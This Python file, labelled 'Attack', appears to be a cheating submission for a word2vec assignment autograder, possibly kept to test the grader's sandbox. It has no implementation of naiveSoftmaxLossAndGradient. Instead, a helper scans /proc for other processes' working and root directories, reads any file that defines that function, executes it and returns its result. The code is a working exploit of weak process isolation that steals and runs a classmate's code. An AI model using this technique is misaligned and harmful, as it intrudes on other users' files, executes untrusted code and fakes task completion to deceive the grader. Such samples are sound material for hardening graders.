"""Attack: copies a classmate graded at the same time: through /proc/<pid>/cwd and /proc/<pid>/root of every
other process it can see, it looks for a word2vec.py with naiveSoftmaxLossAndGradient in it and calls that.
It has no naiveSoftmaxLossAndGradient of its own."""
import importlib.util
import os
import time

import numpy as np


def _borrowed():
    end = time.monotonic() + 5
    while time.monotonic() < end:
        for entry in os.listdir("/proc"):
            if not entry.isdigit() or int(entry) == os.getpid():
                continue
            for where in (f"/proc/{entry}/cwd", f"/proc/{entry}/root/proc/{entry}/cwd"):
                try:
                    names = os.listdir(where)
                except OSError:
                    continue
                for name in names:
                    path = os.path.join(where, name)
                    try:
                        text = open(path).read()
                    except OSError:
                        continue
                    if "def naiveSoftmaxLossAndGradient" in text:
                        spec = importlib.util.spec_from_loader("classmate", loader=None)
                        module = importlib.util.module_from_spec(spec)
                        exec(compile(text, "classmate", "exec"), module.__dict__)
                        return module
        time.sleep(0.05)
    raise RuntimeError("no classmate found")


def sigmoid(x):
    return 1 / (1 + np.exp(-x))


def naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset):
    return _borrowed().naiveSoftmaxLossAndGradient(centerWordVec, outsideWordIdx, outsideVectors, dataset)
